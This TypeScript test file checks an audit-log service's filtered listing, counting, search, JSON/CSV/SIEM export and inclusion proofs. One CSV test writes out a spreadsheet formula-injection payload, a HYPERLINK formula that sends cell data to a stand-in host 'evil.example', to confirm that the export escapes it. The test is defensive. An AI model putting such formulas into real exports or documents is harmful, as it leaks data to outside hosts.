// Tests of the audit lists: compares filters and counts with a simple model.
import {
  AuditExport,
  countAuditEntries,
  exportAuditLogs,
  listAuditEntries,
  readInclusionProof,
} from "@strongroom/contract";
import type { AuditLog, InputOf } from "@strongroom/contract";
import { encodeEntry, leafHash, verifyInclusion } from "@strongroom/auditlog";
import type { AuditEntry } from "@strongroom/auditlog";
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { after, before, describe, it } from "node:test";
import { parse } from "csv-parse/sync";
import { appendAudit } from "#kernel/audit/append.ts";
import { newId } from "#kernel/id.ts";
import { ADA, audited } from "#testing/audited.ts";
import type { Audited } from "#testing/audited.ts";
import { eventually } from "#testing/waiting.ts";
import { spansOf } from "./counts.store.ts";

type Query = NonNullable<InputOf<typeof listAuditEntries>["query"]>;

interface Listed {
  status: number;
  text: string;
  body: { logs: AuditLog[]; next_cursor: string | null };
}

const START = Date.parse("2026-11-18T22:17:31.000Z");
const BOB = { id: newId(), name: "Bob", role: "user" };
const PEOPLE = [{ id: ADA.id, name: ADA.name, role: "admin" }, BOB];
const GRANTS = [newId(), newId()];
const THINGS = [
  { type: "account", id: newId(), name: "Billing database" },
  { type: "account", id: newId(), name: "100%_sure" },
  { type: "credential", id: newId(), name: "Mailbox" },
];
const EVENTS = [
  "account.validated",
  "credential.verified",
  "verification.started",
  "account.retrieved",
  "safe.updated",
];

/** Three days of entries, minutes apart; few enough to check one by one, and mixed enough to include every kind. */
function someEntries(): AuditEntry[] {
  let [seed, at] = [7, START];
  const pick = <T>(from: readonly T[]): T => {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
    return from[Math.floor((seed / 2_147_483_648) * from.length)]!;
  };
  return Array.from({ length: 260 }, () => {
    at += pick([1000, 60_000, 900_000, 2_400_000]);
    const result = pick(["success", "success", "success", "failure", "warning", "info"] as const);
    const severity = result === "failure" ? pick(["critical", "high", "medium"] as const) : undefined;
    const grant = pick([undefined, undefined, ...GRANTS]);
    return {
      v: 1,
      id: newId(at),
      at: new Date(at).toISOString(),
      actor: pick([...PEOPLE, { system: "verification" }]),
      event: pick(EVENTS),
      target: pick(THINGS),
      result,
      ...(severity === undefined ? {} : { severity }),
      details: {
        host: pick(["db1.example.com", "mail.example.com"]),
        ...(grant === undefined ? {} : { request: grant, session_name: "Restart the queue" }),
      },
    };
  });
}

const entries = someEntries();
const newestFirst = entries.toSorted((a, b) => (a.id < b.id ? 1 : -1));
let trail: Audited;

before(async () => {
  trail = await audited();
  // The newest entries stay pending: lists and counters include them too.
  for (const [from, to, isSequenced] of [
    [0, 90, true],
    [90, 240, true],
    [240, 260, false],
  ] as const) {
    await trail.database.transaction((tx) => appendAudit(tx, entries.slice(from, to)));
    if (isSequenced) await trail.audit.sequence();
  }
});
after(() => trail.close());

async function listed(query: Query): Promise<string[]> {
  const ids: string[] = [];
  let cursor: string | null = null;
  do {
    const given: Query = { ...query, limit: 40, ...(cursor === null ? {} : { cursor }) };
    const { body, status, text }: Listed = await trail.call(listAuditEntries, { query: given, as: "manager" } as never);
    assert.equal(status, 200, text);
    ids.push(...body.logs.map(({ id }: AuditLog) => id));
    cursor = body.next_cursor;
  } while (cursor !== null);
  return ids;
}

async function counted(query: Query) {
  const { body, status, text } = await trail.call(countAuditEntries, { query, as: "manager" } as never);
  assert.equal(status, 200, text);
  return body;
}

const grantIn = ({ details }: AuditEntry): boolean => typeof details?.["request"] === "string";
const isVerified = ({ event }: AuditEntry): boolean => ["account.validated", "credential.verified"].includes(event);
const isGrave = ({ severity }: AuditEntry): boolean => severity === "critical" || severity === "high";
const statusOf = ({ result }: AuditEntry): string => (["success", "failure"].includes(result) ? result : "pending");
const actorId = ({ actor }: AuditEntry): string | null => ("id" in actor ? actor.id : null);

/** The meaning of each filter field, in the simplest form. */
const MEANS: { [K in keyof Query]?: (entry: AuditEntry, wanted: string) => boolean } = {
  view: (entry, view) =>
    view === "regular"
      ? isVerified(entry) && !grantIn(entry)
      : view === "jit"
        ? isVerified(entry) && grantIn(entry)
        : view === "all" || (isGrave(entry) && ["failure", "warning"].includes(entry.result)),
  scope: (entry, scope) => scope === "everything" || isVerified(entry) || entry.event.startsWith("verification."),
  status: (entry, status) => statusOf(entry) === status,
  severity: (entry, severity) => (entry.severity ?? "low") === severity,
  event: (entry, event) => entry.event === event,
  result: (entry, result) => entry.result === result,
  actor_id: (entry, id) => actorId(entry) === id,
  target_id: (entry, id) => entry.target?.id === id,
  grant_id: (entry, id) => entry.details?.["request"] === id,
  from: (entry, from) => entry.at >= from,
  to: (entry, to) => entry.at <= to,
};

const matching = (query: Query): AuditEntry[] =>
  newestFirst.filter((entry) =>
    Object.entries(query).every(([name, wanted]) => MEANS[name as keyof Query]!(entry, String(wanted))),
  );

const at = (hours: number): string => new Date(START + hours * 3_600_000).toISOString();
const QUERIES: Query[] = [
  {},
  { view: "regular" },
  { view: "jit" },
  { view: "critical" },
  { view: "jit", status: "failure" },
  { view: "critical", severity: "high" },
  { scope: "verification" },
  { scope: "verification", view: "critical" },
  { scope: "verification", event: "safe.updated" },
  { status: "success" },
  { status: "failure" },
  { status: "pending" },
  { status: "pending", result: "info" },
  { severity: "critical" },
  { severity: "medium", view: "regular" },
  { severity: "low" },
  { event: "account.retrieved", result: "failure" },
  { actor_id: ADA.id },
  { actor_id: ADA.id, status: "failure", from: at(10) },
  { target_id: THINGS[0]!.id, view: "jit" },
  { grant_id: GRANTS[0]!, view: "jit" },
  { grant_id: GRANTS[1]!, from: at(10), status: "failure" },
  { from: at(1), to: at(50) },
  { from: at(5), to: at(5.5), status: "success" },
  { from: at(30) },
  { to: at(30), severity: "critical" },
  { from: at(60), to: at(2) },
] as Query[];

describe("a list of the audit trail", () => {
  it("AUDIT-02, AUDIT-04 to AUDIT-07, AUDIT-15, OPEN-130, OPEN-131: shows and counts exactly the entries that match its filter", async () => {
    for (const query of QUERIES) {
      const wanted = matching(query);
      const label = JSON.stringify(query);
      assert.deepEqual(
        await listed(query),
        wanted.map(({ id }) => id),
        label,
      );
      const figures = {
        total: wanted.length,
        successful: wanted.filter(({ result }) => result === "success").length,
        failed: wanted.filter(({ result }) => result === "failure").length,
        jit: wanted.filter(grantIn).length,
        is_exact: true,
      };
      assert.deepEqual(await counted(query), figures, label);
    }
  });

  it("AUDIT-03: can be searched by the name of a user, target, host or event, by email address and by id", async () => {
    const idsOf = (is: (entry: AuditEntry) => boolean) => newestFirst.filter(is).map(({ id }) => id);
    // Pending entries are searched by the same names.
    const searches: [string, (entry: AuditEntry) => boolean][] = [
      ["billing", ({ target }) => target?.name === "Billing database"],
      ["BOB", (entry) => actorId(entry) === BOB.id],
      ["ada@example", (entry) => actorId(entry) === ADA.id],
      ["account retrieved", ({ event }) => event === "account.retrieved"],
      ["safe.upd", ({ event }) => event === "safe.updated"],
      ["%_s", ({ target }) => target?.name === "100%_sure"],
      [THINGS[2]!.id.toUpperCase(), ({ target }) => target?.id === THINGS[2]!.id],
      [entries[5]!.id, ({ id }) => id === entries[5]!.id],
      ["nobody is called that", () => false],
      ["%", ({ target }) => target?.name === "100%_sure"],
    ];
    for (const [search, is] of searches) {
      assert.deepEqual(await listed({ search }), idsOf(is), search);
      assert.equal((await counted({ search })).total, idsOf(is).length, search);
    }
    const narrowed = { search: "billing", view: "critical", from: at(4) } as Query;
    const both = (entry: AuditEntry) =>
      entry.target?.name === "Billing database" && isGrave(entry) && entry.at >= at(4);
    assert.deepEqual(await listed(narrowed), idsOf(both));
  });

  it("API-88, API-89: also accepts the parameter names that the documents use", async () => {
    const billing = await listed({ search: "billing" });
    assert.ok(billing.length > 0 && billing.length < entries.length);
    assert.deepEqual(await listed({ search_term: "billing" }), billing);
    assert.equal((await counted({ search_term: "billing" })).total, billing.length);
    const [grant] = GRANTS;
    assert.deepEqual(await listed({ session_id: grant }), await listed({ grant_id: grant }));
    assert.ok((await listed({ session_id: grant })).length < entries.length);
  });

  it("AUDIT-14: shows the verification type, the grant and the severity of an entry", async () => {
    const { body } = await trail.call(listAuditEntries, { query: { limit: 200 }, as: "admin" } as never);
    for (const log of body.logs) {
      const entry = entries.find(({ id }) => id === log.id)!;
      const isCritical = grantIn(entry) && entry.result === "failure" && entry.severity === "critical";
      const type = grantIn(entry) ? "jit_account_verification" : "account_verification";
      const ofResult = isCritical ? "jit_critical_verification_failure" : type;
      const wanted = isVerified(entry) ? ofResult : entry.event === "verification.started" ? type : null;
      assert.equal(log.event_type, wanted);
      assert.equal(log.session_name, grantIn(entry) ? "Restart the queue" : null);
      assert.equal(log.details.severity, entry.severity ?? "low");
      assert.equal(log.details.hostname, entry.details?.["host"]);
    }
  });

  it("counts each entry once while entries are sequenced", async () => {
    const earlier = (await counted({})).total;
    await trail.audit.sequence();
    assert.equal((await counted({})).total, earlier);
    const { rows } = await trail.database.pool.query(
      "select span, sum(entries)::int as n from audit_counts group by 1",
    );
    assert.deepEqual(
      rows.map(({ n }) => n),
      [260, 260, 260],
    );
  });
});

it("a period is split into whole days and hours, which are counted already, and the remaining minutes at both ends", () => {
  const hour = 3_600_000;
  for (const [from, to] of [
    [0.5, 0.7],
    [0.5, 1.2],
    [1, 2],
    [0.5, 30.2],
    [3, 100],
    [0, 24],
    [24.5, 47.9],
    [0.1, 240],
  ]) {
    const { kept, counted: minutes } = spansOf(from! * hour, to! * hour);
    const pieces = [...kept.map((range) => [range.from!, range.to!]), ...minutes].filter(([a, b]) => a !== b);
    pieces.sort(([a], [b]) => a! - b!);
    assert.equal(pieces[0]![0], from! * hour);
    assert.equal(pieces.at(-1)![1], to! * hour);
    for (const [index, piece] of pieces.slice(1).entries()) assert.equal(piece[0], pieces[index]![1], `${from} ${to}`);
    for (const { span, from: begin, to: end } of kept) {
      const length = span === "day" ? 24 * hour : hour;
      assert.deepEqual([begin! % length, end! % length], [0, 0]);
    }
    assert.ok(minutes.every(([a, b]) => b - a < 2 * hour));
  }
  assert.deepEqual(spansOf(null, null), { kept: [{ span: "century", from: null, to: null }], counted: [] });
});

describe("an export of the audit trail", () => {
  const exported = (query: object) => trail.call(exportAuditLogs, { query, as: "manager" } as never);

  it("AUDIT-19, AUDIT-20: contains the logs, filters, export time and count as JSON, and is audited", async () => {
    trail.at("2026-11-21T23:30:00.000Z");
    const answer = await exported({ view: "critical" });
    assert.match(String(answer.headers["content-disposition"]), /filename="audit-logs-2026-11-21.json"/);
    assert.match(String(answer.headers["content-type"]), /^application\/json/);
    const file = AuditExport.parse(JSON.parse(answer.text));
    const wanted = matching({ view: "critical" });
    assert.deepEqual(
      file.logs.map(({ id }) => id),
      wanted.map(({ id }) => id),
    );
    assert.equal(file.total_records, wanted.length);
    assert.deepEqual(file.filters, { view: "critical", scope: "everything" });
    assert.equal(file.exported_at, "2026-11-21T23:30:00.000Z");
    const [record] = (await trail.call(listAuditEntries, { query: { event: "audit.exported" }, as: "admin" } as never))
      .body.logs;
    assert.deepEqual(record?.metadata["filters"], { view: "critical", scope: "everything" });
    await exported({ search: "hunter2, pasted by mistake" });
    const { body } = await trail.call(listAuditEntries, { query: { event: "audit.exported" }, as: "admin" } as never);
    const filters = body.logs.map(({ metadata }) => metadata["filters"] as Record<string, unknown>);
    assert.deepEqual(new Set(filters.map(({ search }) => search)), new Set([true, undefined]));
    assert.equal((await exported({ limit: 10_001 })).status, 400);
  });

  it("contains one line per entry as CSV, without formulas in names", async () => {
    const name = '=HYPERLINK("https://evil.example/?"&A1)';
    const target = { type: "safe", id: randomUUID(), name };
    await trail.record(1, { target, reason: "x;=1+1" }, "safe.created");
    const answer = await exported({ format: "csv", target_id: target.id });
    assert.match(String(answer.headers["content-type"]), /^text\/csv/);
    const [line] = parse(answer.text, { columns: true }) as Record<string, string>[];
    assert.equal(line?.["target"], `'${name}`);
    assert.ok(line?.["details"]?.includes(`"reason":"x;'=1+1"`), line?.["details"]);
    for (const cell of Object.values(line)) assert.doesNotMatch(cell, /^\s*[=+\-@]/);
  });

  it("contains one line per entry, with its id, in SIEM formats", async () => {
    for (const format of ["rfc5424", "cef", "ocsf"]) {
      const answer = await exported({ format, event: "account.retrieved" });
      const wanted = matching({ event: "account.retrieved" });
      const lines = answer.text.trimEnd().split("\n");
      assert.equal(lines.length, wanted.length, format);
      lines.forEach((line, index) => assert.ok(line.includes(wanted[index]!.id), format));
    }
  });
});

it("a search that takes too long is stopped with a hint; an export has no such limit", async () => {
  const { config, database } = trail.kernel;
  const usual = config.auditSearchSeconds;
  config.auditSearchSeconds = 0.2;
  const busy = await database.pool.connect();
  try {
    // Locks the table of names, so that the search waits as if reading the table took too long.
    await busy.query("begin");
    await busy.query("lock table audit_names in access exclusive mode");
    const query = { search: "billing" };
    for (const endpoint of [listAuditEntries, countAuditEntries]) {
      const refused = await trail.call(endpoint, { query, as: "manager" } as never);
      assert.equal(refused.status, 422, refused.text);
      assert.match(refused.text, /"code":"audit.search-too-long".*Filter by time/);
    }
    const exporting = trail.call(exportAuditLogs, { query, as: "manager" } as never);
    // Wait longer than a search may take.
    await eventually(async () => {
      const { rowCount } = await database.pool.query(
        `select from pg_stat_activity where datname = current_database() and wait_event_type = 'Lock'
           and now() - query_start > interval '300 milliseconds'`,
      );
      return rowCount === 1 ? true : null;
    });
    await busy.query("rollback");
    const exported = await exporting;
    assert.equal(exported.status, 200, exported.text);
    assert.ok(exported.text.includes("Billing database"));
    // Restore the default limit: on a busy machine any search may exceed the short limit.
    config.auditSearchSeconds = usual;
    assert.equal((await trail.call(listAuditEntries, { query, as: "manager" } as never)).status, 200);
  } finally {
    busy.release(true);
    config.auditSearchSeconds = usual;
  }
});

it("an entry shows its inclusion proof, which verifies against the root that the checkpoint signs", async () => {
  await trail.audit.sequence();
  const entry = entries[17]!;
  const { body, text } = await trail.call(readInclusionProof, {
    params: { id: entry.id },
    as: "manager",
  });
  const bytes = (hash: string) => Buffer.from(hash, "base64");
  const leaf = leafHash(encodeEntry(entry));
  assert.equal(body.leaf_hash, leaf.toString("base64"), text);
  assert.ok(body.checkpoint.includes(`\n${body.tree_size}\n${body.root_hash}\n`));
  const { leaf_index: index, tree_size: size } = body;
  assert.ok(verifyInclusion({ index, size, leaf, proof: body.hashes.map(bytes), root: bytes(body.root_hash) }));
});
